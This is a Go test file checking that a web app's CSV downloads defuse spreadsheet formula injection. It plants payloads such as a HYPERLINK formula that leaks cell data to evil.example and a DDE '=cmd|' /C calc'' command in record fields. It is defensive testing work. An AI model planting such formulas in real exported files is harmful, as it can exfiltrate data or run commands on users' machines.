package web_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
)

// formulaStart reports whether a spreadsheet would read a CSV cell as a formula: it starts with
// =, +, - or @ (or a tab or carriage return before one) and is not a plain number.
func formulaStart(cell string) bool {
	if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
		return false
	}
	_, err := strconv.ParseFloat(cell, 64)
	return err != nil
}

// csvCells reads a CSV download and fails on any cell a spreadsheet would run as a formula.
func csvFormulaCells(t *testing.T, name string, r response) [][]string {
	t.Helper()
	if r.status != http.StatusOK {
		t.Fatalf("%s: status %d: %.300s", name, r.status, r.body)
	}
	rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if formulaStart(cell) {
				t.Errorf("%s: cell %q would run as a formula", name, cell)
			}
		}
	}
	return rows
}

// TestCSVDownloadsGuardFormulas files records whose services, regions, factor and follow-up
// fields read as spreadsheet formulas, and checks that no CSV the app offers lets one through,
// while the text itself is kept.
func TestCSVDownloadsGuardFormulas(t *testing.T) {
	a := newApp(t)
	factorName := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	check(t, "factor", a.post("/factors", url.Values{"slug": {"evil-factor"}, "name": {factorName}, "description": {"@SUM(1+1)"}}), http.StatusSeeOther, nil, nil)
	form := with(seed000Form(),
		"title", "-2+3 pages",
		"services", "=cmd|' /C calc'!A0, @SUM(A1:A9)",
		"regions", "+1+1, \t=1+2",
	)
	form["factors"] = []string{"evil-factor"}
	incident := a.createIncident(form)
	check(t, "follow-up", a.post(incident+"/follow-ups", url.Values{
		"title": {"\t=1+2 check caches"}, "kind": {"prevent"}, "priority": {"p1"}, "status": {"open"},
		"owner": {"-SUM(A1)"}, "tracker_url": {"https://tracker.example/=1"},
	}), http.StatusSeeOther, nil, nil)

	for _, group := range []string{"service", "region", "factor"} {
		rows := csvFormulaCells(t, "groups by "+group, a.get("/insights.csv?table=groups&group_by="+group))
		body := ""
		for _, row := range rows {
			body += strings.Join(row, "|") + "\n"
		}
		want := map[string]string{"service": "cmd|' /C calc'!A0", "region": "+1+1", "factor": "HYPERLINK("}[group]
		if !strings.Contains(body, want) {
			t.Errorf("groups by %s lost the name %q:\n%s", group, want, body)
		}
	}
	for _, table := range []string{"figures", "histogram", "trend", "detection", "slowest", "invalid"} {
		csvFormulaCells(t, table, a.get("/insights.csv?table="+table))
	}
	rows := csvFormulaCells(t, "follow-ups", a.get("/follow-ups.csv"))
	if len(rows) != 2 || !strings.Contains(rows[1][1], "=1+2 check caches") || !strings.Contains(rows[1][5], "-SUM(A1)") {
		t.Errorf("follow-ups.csv rows = %q", rows)
	}
}
